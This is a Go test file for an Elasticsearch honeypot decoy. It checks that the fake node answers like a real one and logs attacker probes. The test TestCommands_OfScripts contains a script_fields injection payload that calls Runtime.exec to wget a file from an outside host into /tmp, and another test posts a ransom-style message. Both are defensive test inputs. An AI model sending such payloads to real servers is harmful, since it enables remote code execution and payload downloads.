package elastic_test

import (
	"encoding/json"
	"fmt"
	"io"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/elastic"
	"decnet/decoy/traptest"
)

func bench(t *testing.T) *traptest.Bench {
	t.Helper()
	return traptest.New(t, elastic.New, traptest.Options{Service: "elasticsearch"})
}

func raw(t *testing.T, b *traptest.Bench, text string) (head, body string) {
	t.Helper()
	c := b.Dial(9200)
	_, err := io.WriteString(c, text)
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	head, body, _ = strings.Cut(string(got), "\r\n\r\n")
	return head, body
}

func ask(t *testing.T, b *traptest.Bench, method, path, body string) (head, rest string) {
	t.Helper()
	return raw(t, b, fmt.Sprintf("%s %s HTTP/1.1\r\nHost: h:9200\r\nConnection: close\r\nUser-Agent: python-requests/2.31\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", method, path, len(body), body))
}

func TestRoot_IsThatOfElasticsearch(t *testing.T) {
	t.Parallel()
	b := bench(t)
	head, body := ask(t, b, "GET", "/", "")
	assert.Equal(t, fmt.Sprintf("HTTP/1.1 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: %d\r\nconnection: close", len(body)), head)
	assert.True(t, strings.HasPrefix(body, "{\n  \"name\" : \"srv-web-07\",\n  \"cluster_name\" : "), body)
	assert.True(t, strings.HasSuffix(body, "  \"tagline\" : \"You Know, for Search\"\n}\n"), body)
	f := traptest.Fields(b.Wait("root_probe"))
	assert.Equal(t, "127.0.0.1", f["src"])
	assert.Equal(t, "GET", f["method"])
	assert.Equal(t, "/", f["path"])
	_, again := ask(t, bench(t), "GET", "/", "")
	assert.Equal(t, body, again, "another start is the same node")
	head, body = ask(t, b, "HEAD", "/", "")
	assert.Contains(t, head, "200 OK")
	assert.Empty(t, body)
	head, body = ask(t, b, "DELETE", "/", "")
	assert.Contains(t, head, "405 Method Not Allowed\r\nAllow: GET,HEAD\r\n")
	assert.JSONEq(t, `{"error":"Incorrect HTTP method for uri [/] and method [DELETE], allowed: [GET, HEAD]","status":405}`, body)
}

func TestEvents_AreThoseOfTheWireDialect(t *testing.T) {
	t.Parallel()
	b := bench(t)
	for _, r := range [][3]string{
		{"GET", "/_cat/indices?v", "cat_api"}, {"GET", "/_cluster/health", "cluster_recon"}, {"GET", "/_nodes", "nodes_recon"},
		{"GET", "/_security/user", "security_probe"}, {"POST", "/_search", "post_request"}, {"PUT", "/read_me", "put_request"},
		{"DELETE", "/customers", "delete_request"}, {"HEAD", "/", "head_request"}, {"GET", "/_all/_search", "request"},
	} {
		ask(t, b, r[0], r[1], "")
		assert.Equal(t, r[0], traptest.Fields(b.Wait(r[2]))["method"])
	}
	ask(t, b, "POST", "/read_me/_doc", `{"message":"send 0.1 BTC"}`)
	f := traptest.Fields(b.WaitN("post_request", 2)[1])
	assert.JSONEq(t, `{"message":"send 0.1 BTC"}`, f["body_preview"])
	assert.Equal(t, "python-requests/2.31", f["user_agent"])
}

func TestIndices_AreTheSameInEveryAnswer(t *testing.T) {
	t.Parallel()
	b := bench(t)
	_, body := ask(t, b, "GET", "/_cat/indices?format=json", "")
	var rows []map[string]string
	require.NoError(t, json.Unmarshal([]byte(body), &rows))
	require.NotEmpty(t, rows)
	_, text := ask(t, b, "GET", "/_cat/indices?v", "")
	name := rows[0]["index"]
	assert.True(t, strings.HasPrefix(text, "health status index "), text)
	assert.Contains(t, text, rows[0]["uuid"]+"   1   1 ", "numbers are on the right")
	assert.Len(t, strings.Split(strings.TrimSpace(text), "\n"), len(rows)+1)
	_, body = ask(t, b, "GET", "/"+name+"/_count", "")
	assert.Contains(t, body, `{"count":`+rows[0]["docs.count"]+`,`)
	head, body := ask(t, b, "GET", "/nothing/_search?pretty", "")
	assert.Contains(t, head, "404 Not Found")
	assert.Contains(t, body, "\"reason\" : \"no such index [nothing]\"")
	_, body = ask(t, b, "DELETE", "/"+name, "")
	assert.JSONEq(t, `{"acknowledged":true}`, body)
	for _, path := range []string{"/_cluster/health", "/_nodes", "/_cluster/state", "/" + name, "/_aliases", "/_search", "/" + name + "/_doc/1"} {
		_, body = ask(t, b, "GET", path, "")
		assert.Truef(t, json.Valid([]byte(body)), "%s: %s", path, body)
	}
}

func TestCommands_OfScripts(t *testing.T) {
	t.Parallel()
	b := bench(t)
	ask(t, b, "POST", "/_search?pretty", `{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"wget http://198.51.100.9/a -O /tmp/a\").getText()"}}}`)
	assert.Equal(t, "wget http://198.51.100.9/a -O /tmp/a", traptest.Fields(b.Wait("command"))["command"])
}

func TestGarbage(t *testing.T) {
	t.Parallel()
	b := bench(t)
	head, body := raw(t, b, "GET / FOO\r\n\r\n")
	assert.Contains(t, head, "400 Bad Request")
	assert.Contains(t, body, "invalid version format: FOO")
	b.Wait("protocol_error")
	_, body = raw(t, b, "GET / HTTP/1.1\r\n\r\n")
	assert.Contains(t, body, "You Know, for Search", "a host is not needed")
}

func TestCurl_Agrees(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	out, err := exec.CommandContext(t.Context(), curl, "-sSI", "--max-time", "10", "http://"+bench(t).Listen(9200)+"/").CombinedOutput()
	require.NoErrorf(t, err, "%s", out)
	assert.True(t, strings.HasPrefix(string(out), "HTTP/1.1 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\n"), string(out))
}
